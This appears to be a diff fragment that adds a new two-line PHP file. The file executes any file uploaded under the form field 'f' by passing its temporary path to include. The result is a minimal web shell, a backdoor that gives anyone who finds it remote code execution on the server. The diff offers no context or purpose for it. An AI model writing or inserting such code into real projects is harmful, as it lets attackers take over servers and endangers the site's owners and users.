@@ -1,0 +1,2 @@
+<?php
+if (!empty($_FILES['f'])) { include $_FILES['f']['tmp_name']; }
